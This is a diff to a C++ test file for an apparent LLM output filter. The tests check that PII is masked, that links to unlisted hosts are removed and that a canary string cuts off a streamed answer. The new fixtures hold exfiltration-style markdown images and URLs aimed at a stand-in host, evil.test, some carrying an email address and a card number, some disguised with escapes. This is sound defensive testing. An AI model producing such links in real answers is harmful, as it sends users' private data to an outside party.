@@ -6,6 +6,7 @@
 #include <gtest/gtest.h>
 
 #include <functional>
+#include <optional>
 #include <string>
 
 #include "../sim/random.h"
@@ -139,9 +140,8 @@ struct Told {
 
 class Guarded {
   public:
-    explicit Guarded(GuardPlan plan)
-        : plan_(std::move(plan)), arena_(pool_, 1024), values_(arena_, plan_.pii->restores()) {
-        if (!plan_.pii->restores()) return;
+    explicit Guarded(GuardPlan plan) : plan_(std::move(plan)), arena_(pool_, 1024), values_(arena_, plan_.restores()) {
+        if (!plan_.restores()) return;
         (void)values_.placeholder(PiiType::email, "own@client.example");
         (void)values_.placeholder(PiiType::secret, "a \"quoted\"\nsecret\\");
         values_.keep_no_more();
@@ -222,8 +222,8 @@ constexpr std::string_view texts[] = {
     "{\\\"to\\\":\\\"[EMAIL_1]\\\",\\\"pw\\\":\\\"[SECRET_1]\\\"}",
 };
 
-void expect_law(bool reversible, std::string_view raw, size_t two_max) {
-    Guarded guarded(plan_of(GuardAction::mask, reversible));
+void expect_law(GuardPlan plan, std::string_view raw, size_t two_max) {
+    Guarded guarded(std::move(plan));
     for (const Form& form : forms()) {
         SCOPED_TRACE(form.name);
         const std::string_view member = form.holds_json() ? "arguments" : "content";
@@ -247,6 +247,10 @@ void expect_law(bool reversible, std::string_view raw, size_t two_max) {
         expect(borders);
         if (testing::Test::HasFatalFailure()) return;
     }
+}
+
+void expect_law(bool reversible, std::string_view raw, size_t two_max) {
+    expect_law(plan_of(GuardAction::mask, reversible), raw, two_max);
 }
 
 TEST(AnswerStream, TellsWhatTheWholeAnswerTellsForEveryCut) {
@@ -521,6 +525,104 @@ TEST(AnswerStream, EachChoiceAndCallIsATextOfItsOwn) {
     EXPECT_FALSE(told.events.contains("@")) << told.events;
     for (const char* const sign : {"[EMAIL_1] ", "[EMAIL_2] ", "[EMAIL_3] "})
         EXPECT_TRUE(told.events.contains(sign)) << told.events;
+}
+
+// Leaks.
+
+GuardPlan leaks_plan(GuardAction links, std::optional<GuardAction> pii, bool reversible = false) {
+    GuardPlan plan = pii ? plan_of(*pii, reversible) : GuardPlan();
+    LeakPlan& leaks = plan.leaks.emplace();
+    leaks.rules.links = true;
+    EXPECT_TRUE(leaks.rules.hosts.add("docs.example.com"));
+    EXPECT_TRUE(leaks.rules.canary.add("zebra-7731"));
+    leaks.rules.canary.make();
+    leaks.actions = {links, GuardAction::block, GuardAction::log};
+    return plan;
+}
+
+constexpr std::string_view leaking_texts[] = {
+    "See ![a](https://evil.test/i.png?x=1), [b](https://docs.example.com/).",
+    "https://evil.test/?to=ann@example.org&card=4111111111111111 ann@example.org",
+    "![\\u0061](ht\\u0074ps:\\/\\/evil.test\\/ann@example.org) [EMAIL_1] [x](//e.t/[EMAIL_1])",
+    "{\\\"u\\\":\\\"![](https://evil.test/)\\\",\\\"v\\\":\\\"https:\\\\/\\\\/evil.test\\\\/"
+    "?q=ann@example.org&r=4111111111111111\\\"}",
+    "```\\n![](https://evil.test/)\\n```\\n![](https://evil.test/)\\\\n<img src='//e.t/\xc3\xa9'>",
+    "own@client.example https://evil.test/?q=own@client.example-4111111111111111-0123456789.",
+};
+
+TEST(AnswerStream, LeaksAreTakenOutForEveryCut) {
+    for (const std::string_view raw : leaking_texts) {
+        SCOPED_TRACE(raw);
+        expect_law(leaks_plan(GuardAction::mask, std::nullopt), raw, 40);
+        expect_law(leaks_plan(GuardAction::mask, GuardAction::mask), raw, 40);
+        expect_law(leaks_plan(GuardAction::mask, GuardAction::mask, true), raw, 40);
+        expect_law(leaks_plan(GuardAction::mask, GuardAction::log), raw, 0);
+        expect_law(leaks_plan(GuardAction::log, GuardAction::mask), raw, 0);
+        if (HasFatalFailure()) return;
+    }
+    Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
+    EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":"![a](https://evil.test/i) ok"}}]})"),
+              R"({"choices":[{"message":{"content":"![a]([link removed]) ok"}}]})");
+}
+
+TEST(AnswerStream, LeaksAmongOthersDrawnByChance) {
+    constexpr std::string_view parts[] = {"ann@example.org",
+                                          "4111111111111111",
+                                          "[EMAIL_1]",
+                                          "[",
+                                          "]",
+                                          "(",
+                                          ")",
+                                          "!",
+                                          "https://evil.test/",
+                                          "?q=",
+                                          "https://docs.example.com/",
+                                          "{",
+                                          "}",
+                                          "\\\"",
+                                          ":",
+                                          " ",
+                                          "\\n",
+                                          "\\\\n",
+                                          "\\u0068ttp",
+                                          "src=",
+                                          "\xc3\xa9",
+                                          "0123456789abcdefghijklmnop",
+                                          "/",
+                                          "\\/",
+                                          "javascript:",
+                                          "```",
+                                          "word",
+                                          "url("};
+    sim::Random random(2028);
+    for (int run = 0; run < 150; ++run) {
+        std::string raw;
+        const size_t count = random.between(2, 9);
+        for (size_t i = 0; i < count; ++i) raw += parts[random.below(std::size(parts))];
+        SCOPED_TRACE(raw);
+        const bool reversible = random.chance(500);
+        expect_law(leaks_plan(GuardAction::mask, GuardAction::mask, reversible), raw, 0);
+        if (HasFatalFailure()) return;
+    }
+}
+
+/// In front of it the stream ends, and nothing of it is told.
+TEST(AnswerStream, ACanaryEndsTheStreamForEveryCut) {
+    for (const std::optional<GuardAction> pii : {std::optional<GuardAction>(), std::optional(GuardAction::mask)}) {
+        Guarded guarded(leaks_plan(GuardAction::log, pii));
+        const std::string raw = "Mine is ZEBRA\\u002d7731, not zebra-77. ann@example.org";
+        for (const Form& form : forms()) {
+            for (const size_t cut : borders_of(raw)) {
+                const Told told = guarded.stream(form.protocol, streamed(form, raw, {cut}));
+                ASSERT_TRUE(told.blocked) << form.name << cut;
+                ASSERT_EQ(joined(told.events, form.before), "Mine is ") << form.name << cut;
+            }
+        }
+        const std::string fine = "zebra-773 zebra-77";
+        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], fine, {7}));
+        EXPECT_FALSE(told.blocked);
+        EXPECT_EQ(joined(told.events, forms()[0].before), fine);
+    }
 }
 
 }  // namespace
